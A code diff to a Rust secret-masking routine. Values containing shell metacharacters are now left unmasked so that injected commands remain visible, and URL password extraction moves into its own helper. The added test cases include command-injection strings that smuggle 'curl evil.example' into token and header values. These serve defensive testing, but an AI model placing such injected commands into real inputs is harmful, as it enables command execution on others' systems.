@@ -86,7 +86,14 @@ pub(super) fn masked_words(words: &[String]) -> Vec<String> {
 /// whose name says so, a credential of a header, the password of a URL, a token whose beginning is known. Less than what
 /// is masked: a word that only looks random may say what runs, and must be seen.
 pub(super) fn secret_in(word: &str, before: &str) -> Option<Span> {
-    let told = |value: &str| !value.is_empty() && !value.contains(['/', '\\']) && !value.starts_with(['-', '.', '~']);
+    // What a shell would do something with may be what runs.
+    let inert = |c: char| c.is_ascii_graphic() && !";|&<>(){}`'\"$".contains(c) || c as u32 >= 0x80;
+    let plain = |value: &str| {
+        value.strip_prefix("Bearer ").or(value.strip_prefix("Basic ")).unwrap_or(value).chars().all(inert)
+    };
+    let told = |value: &str| {
+        !value.is_empty() && !value.contains(['/', '\\']) && !value.starts_with(['-', '.', '~']) && plain(value)
+    };
     if before.starts_with('-') && !before.contains('=') && is_secret_name(before) {
         return told(word).then_some(0..word.len());
     }
@@ -97,17 +104,24 @@ pub(super) fn secret_in(word: &str, before: &str) -> Option<Span> {
         {
             let blank = value.len() - value.trim_start().len();
             let credential = ["Bearer ", "Basic ", "bearer ", "basic "].iter().any(|scheme| value.contains(scheme));
-            return (credential || told(value.trim_start())).then_some(name.len() + 1 + blank..word.len());
+            return (credential && plain(value.trim_start()) || told(value.trim_start()))
+                .then_some(name.len() + 1 + blank..word.len());
         }
     }
-    if let Some((scheme, rest)) = word.split_once("://") {
-        let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
-        let (user, password) = host.rsplit_once('@')?.0.split_once(':')?;
-        let from = scheme.len() + 3 + user.len() + 1;
-        return (!password.is_empty()).then_some(from..from + password.len());
+    if word.contains("://") {
+        return password_in(word);
     }
     let known = word.len() >= 16 && !word.contains('/') && BEGINNINGS.split(' ').any(|known| word.starts_with(known));
     known.then_some(0..word.len())
+}
+
+/// Where the password of a URL stands.
+pub(super) fn password_in(word: &str) -> Option<Span> {
+    let (scheme, rest) = word.split_once("://")?;
+    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    let (user, password) = host.rsplit_once('@')?.0.split_once(':')?;
+    let from = scheme.len() + 3 + user.len() + 1;
+    (!password.is_empty() && !password.contains(char::is_whitespace)).then_some(from..from + password.len())
 }
 
 fn masked_word(word: &str, before: &str) -> String {
@@ -285,6 +299,11 @@ mod tests {
             ("x", "https://h.example/p?key=abc", None),
             ("x", "https://ann@h.example/", None),
             ("x", "--token=", None),
+            ("-c", "token=1;curl${IFS}evil.example", None),
+            ("-c", "token=1 curl", None),
+            ("-c", "key=`curl evil.example`", None),
+            ("--header", "Authorization: Bearer a; curl evil.example", None),
+            ("--password", "pässword", Some("pässword")),
         ] {
             assert_eq!(secret_in(word, before).map(|span| &word[span]), secret, "{before} {word}");
         }
